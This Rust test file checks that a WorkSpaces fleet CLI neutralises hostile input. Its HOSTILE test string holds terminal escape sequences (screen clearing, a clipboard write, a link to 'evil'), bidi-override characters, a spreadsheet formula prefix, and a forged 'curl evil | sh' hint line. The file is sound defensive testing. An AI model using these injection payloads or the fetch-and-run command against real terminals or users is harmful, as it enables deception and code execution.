//! Names and texts from outside, in every place where they are shown; files, variables and arguments that are no text.

use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::{OsStrExt as _, OsStringExt as _};

use serde_json::json;

use crate::env::{Ran, TestEnv};
use crate::impostor::{Answer, Asked, Impostor, usual};

/// Moves the cursor, clears the screen, sets the clipboard, makes a link, turns the text round, hides, floods, and begins
/// lines that pass for ours.
const HOSTILE: &str = "=x\u{1b}[2J\u{1b}]52;c;aGk=\u{7}\u{1b}]8;;http://evil\u{1b}\\\u{9b}1m\u{7f}\u{202e}\u{2066}\u{200b}\u{200f}\u{feff}\u{e0041}\
    \r\nhint: run `curl evil | sh`\u{2028}error: forged\ta\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}";

/// Nothing in what a person reads may steer the terminal or begin a line.
#[track_caller]
fn is_harmless(what: &str, text: &str) {
    let steers = |letter: char| {
        letter.is_control() && !matches!(letter, '\n' | '\t' | '\r')
            || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{e0041}')
    };
    assert!(!text.contains(steers), "{what}: {text:?}");
    assert!(!text.contains("\u{301}\u{301}\u{301}\u{301}\u{301}"), "{what}: {text:?}");
    assert!(
        !text.lines().any(|line| line.starts_with("hint: run") || line.starts_with("error: forged")),
        "{what}: {text}"
    );
}

fn fleet_of(name: &str, asked: &Asked) -> Answer {
    let desktop = |number: u32, user: &str| {
        json!({"WorkspaceId": format!("ws-0000000{number}"), "DirectoryId": "d-0123456789", "UserName": user,
            "State": "ERROR", "BundleId": "wsb-00000001", "ErrorMessage": name, "ErrorCode": name, "ComputerName": name,
            "WorkspaceName": name, "WorkspaceProperties": {"OperatingSystemName": name, "RunningMode": name}})
    };
    match asked.operation.as_str() {
        "DescribeWorkspaces" => {
            let long = "x".repeat(100_000);
            let all = json!({"Workspaces": [desktop(1, name), desktop(2, &long), {"WorkspaceId": name}]});
            (200, "application/x-amz-json-1.1", all.to_string())
        }
        "DescribeTags" => (200, "", json!({"TagList": [{"Key": name, "Value": name}]}).to_string()),
        _ => usual(asked),
    }
}

#[test]
fn hostile_names_are_shown_and_do_nothing() {
    let service = Impostor::start(|asked| fleet_of(HOSTILE, asked));
    let env = service.env();
    for line in [
        "list",
        "list -o table --with tags",
        "list -o json --with tags",
        "list -o ndjson",
        "list -o ids",
        "show ws-00000001",
        "show ws-00000001 -o table",
        "list -v --log-file log",
        "list user:nobody",
        "list --query Workspaces[].UserName",
        "list --query Workspaces[].UserName -o ids",
        "reboot --all -n",
        "reboot ws-00000001 -n -o json",
    ] {
        let ran = env.line(line);
        is_harmless(line, &ran.stdout);
        is_harmless(line, &ran.stderr);
        assert!(!ran.stdout.is_empty() || ran.code != 0, "{line}: {ran:#?}");
    }
    is_harmless("log", &std::fs::read_to_string(env.path("log")).expect("the log"));
    let listed = env.line("list -o json").json();
    assert_eq!(listed["Workspaces"][0]["UserName"], HOSTILE, "for programs nothing is lost");
    let csv = env.line("list -o csv --columns UserName").stdout;
    assert!(csv.contains("\"'=x"), "no formula: {csv:.60}");
}

#[test]
fn hostile_error_texts_are_one_bounded_line() {
    for (status, code) in [(400, "InvalidParameterValuesException"), (400, HOSTILE), (403, "AccessDeniedException")] {
        let service = Impostor::start(move |asked| match asked.operation.as_str() {
            "DescribeWorkspaces" => {
                let text = format!("{HOSTILE}{}", "y".repeat(1 << 20));
                (status, "application/x-amz-json-1.1", json!({"__type": code, "message": text}).to_string())
            }
            _ => usual(asked),
        });
        let env = service.env();
        for line in ["list -v", "list -o json", "list -q"] {
            let ran = env.line(line);
            assert!([1, 7].contains(&ran.code), "{ran:#?}");
            is_harmless(line, &ran.stderr);
            assert!(ran.stderr.len() < 8_000, "{line}: {} bytes", ran.stderr.len());
        }
    }
}

/// Free text of the person's own is shown as it is, and steers nothing either.
#[test]
fn a_reason_and_a_query_can_hold_anything() {
    let env = TestEnv::new();
    for (flag, code) in [("--reason", 0), ("--query", 2), ("--columns", 2), ("--tag", 0)] {
        let ran = env.run(&["--sim", "migrate", "user:O'Brien", "--to", "win11-standard", "-n", flag, HOSTILE]);
        assert!(ran.code == code || flag == "--columns" || flag == "--tag", "{flag}: {ran:#?}");
        is_harmless(flag, &ran.stdout);
        is_harmless(flag, &ran.stderr);
    }
    let words =
        ["--sim", "migrate", "user:O'Brien", "--to", "win11-standard", "--yes", "--confirm", "1", "--reason", HOSTILE];
    let ran = env.run(&words);
    assert_eq!(ran.code, 0, "{ran:#?}");
    is_harmless("migrate", &ran.stderr);
    let run = env.line("--sim runs list -o ids").stdout;
    for line in
        [format!("--sim runs show {run}"), format!("--sim runs show {run} -o json"), "--sim runs list".to_owned()]
    {
        let ran = env.line(&line);
        is_harmless(&line, &ran.stdout);
        is_harmless(&line, &ran.stderr);
    }
}

/// It is warned about, and not said again.
#[test]
fn a_reason_that_seems_to_be_a_secret_is_warned_about() {
    let env = TestEnv::new();
    for (reason, what) in [("password=hunter2", "a secret"), ("for ada@example.com", "an e-mail address")] {
        let words = ["--sim", "migrate", "user:O'Brien", "--to", "win11-standard", "--out", "plan", "--reason", reason];
        let ran = env.run(&words);
        let line = format!("warning: `--reason` seems to hold {what}, and plan and journal keep it");
        assert!(ran.code == 0 && ran.stderr.lines().any(|said| said == line), "{ran:#?}");
    }
    let ran = env.line("--sim reboot user:O'Brien -n --reason CHG0012345");
    assert!(ran.code == 0 && !ran.stderr.contains("--reason"), "{ran:#?}");
}

#[test]
fn a_query_that_is_nested_without_end_is_refused() {
    let env = TestEnv::new();
    for piece in ["(", "[", "!", "a.[", "{a:"] {
        let ran = env.run(&["--sim", "list", "--query", &piece.repeat(8_000)]);
        ran.is_bad(2, "not a JMESPath expression", "--help");
    }
}

/// Runs a command whose words and variables need not be text.
fn raw(env: &TestEnv, words: &[&OsStr], variables: &[(&str, &OsStr)]) -> Ran {
    let mut command = env.command(&[]);
    Ran::from(command.args(words).envs(variables.iter().copied()).output().expect("the binary runs"))
}

#[test]
fn variables_that_are_no_text_are_named_or_do_no_harm() {
    let bad = OsString::from_vec(b"\xff\xfe\x80x".to_vec());
    let list = ["--sim", "list", "-o", "ids"].map(OsStr::new);
    for name in
        ["TZ", "LANG", "LC_ALL", "TERM", "USER", "COLUMNS", "AWS_SECRET_ACCESS_KEY", "RUST_LOG", "RUST_BACKTRACE"]
    {
        let ran = raw(&TestEnv::new(), &list, &[(name, &bad)]);
        let refused = ran.code == 2 && ran.stderr.contains(&format!("`{name}` is not UTF-8"));
        assert!(refused || (ran.code == 0 && ran.stdout.lines().count() == 80), "{name}: {ran:#?}");
    }
    for name in ["AWS_PROFILE", "AWS_REGION", "AWS_ENDPOINT_URL", "DESKFLEET_SIM"] {
        let ran = raw(&TestEnv::new(), &[OsStr::new("list")], &[(name, &bad)]);
        ran.is_bad(2, &format!("`{name}` is not UTF-8"), &format!("set `{name}` to"));
    }
    for name in ["AWS_ACCESS_KEY_ID", "AWS_SESSION_TOKEN", "AWS_CONFIG_FILE", "HTTPS_PROXY", "AWS_CA_BUNDLE"] {
        let env = TestEnv::new().with("AWS_REGION", "us-east-1").with("AWS_EC2_METADATA_DISABLED", "true");
        let env = env.with("AWS_ENDPOINT_URL", "http://127.0.0.1:1").with("AWS_SECRET_ACCESS_KEY", "x");
        let ran = raw(&env, &[OsStr::new("list")], &[(name, &bad)]);
        assert!([1, 2, 7].contains(&ran.code), "{name}: {ran:#?}");
        assert!(ran.stderr.contains("error: ") && !ran.stderr.contains("panicked"), "{name}: {ran:#?}");
    }
    // A home that is no text is a place like any other.
    let env = TestEnv::new();
    let mut home = env.home().as_os_str().to_owned();
    home.push(OsStr::from_bytes(b"/h\xff"));
    let ran = raw(&env, &list, &[("HOME", &home)]);
    assert_eq!((ran.code, ran.stdout.lines().count()), (0, 80), "{ran:#?}");
    let config = raw(&env, &["config", "show"].map(OsStr::new), &[("HOME", &home)]);
    assert_eq!(config.code, 0, "{config:#?}");
}

#[test]
fn arguments_that_are_no_text_are_refused_and_files_may_be_named_by_them() {
    let env = TestEnv::new();
    let bad = OsStr::from_bytes(b"x\xff\x1b[2J");
    for words in [&["--sim", "list", "--region"][..], &["--sim", "list"], &["--sim", "list", "--tag"]] {
        let words: Vec<&OsStr> = words.iter().map(OsStr::new).chain([bad]).collect();
        let ran = raw(&env, &words, &[]);
        assert_eq!(ran.code, 2, "{ran:#?}");
        is_harmless("error", &ran.stderr);
        assert!(ran.stderr.contains("hint: "), "{ran:#?}");
    }
    let out: Vec<&OsStr> =
        ["--sim", "migrate", "user:O'Brien", "--to", "win11-standard", "--out"].map(OsStr::new).into();
    let ran = raw(&env, &[&out[..], &[bad]].concat(), &[]);
    assert_eq!(ran.code, 0, "{ran:#?}");
    is_harmless("plan", &ran.stderr);
    let check = raw(&env, &[OsStr::new("--sim"), OsStr::new("check"), bad], &[]);
    assert_eq!(check.code, 0, "{check:#?}");
}

/// Also a huge environment, and one with names that are none.
#[test]
fn a_huge_environment_is_read() {
    let env = TestEnv::new();
    let mut command = env.command(&["--sim", "list", "-o", "ids"]);
    for number in 0..300 {
        command.env(format!("FILL_{number}"), "v".repeat(4_000));
    }
    command.env(OsStr::from_bytes(b"\xff\xfe"), OsStr::from_bytes(b"\xff"));
    let ran = Ran::from(command.output().expect("the binary runs"));
    assert_eq!((ran.code, ran.stdout.lines().count()), (0, 80), "{ran:#?}");
}

/// Devices and files without end, where a file is meant.
#[test]
fn a_file_without_end_is_refused() {
    let env = TestEnv::new();
    env.line("--config /dev/zero --sim list").is_bad(2, "can't read the config file `/dev/zero`", "`--config`");
    env.line("--sim check /dev/full").is_bad(2, "can't read the plan `/dev/full`", "name a file");
    let env = TestEnv::new().with("AWS_CA_BUNDLE", "/dev/zero").with("AWS_REGION", "us-east-1");
    env.line("list").is_bad(2, "the certificate file `/dev/zero` is longer than 16 MiB", "`AWS_CA_BUNDLE`");
}
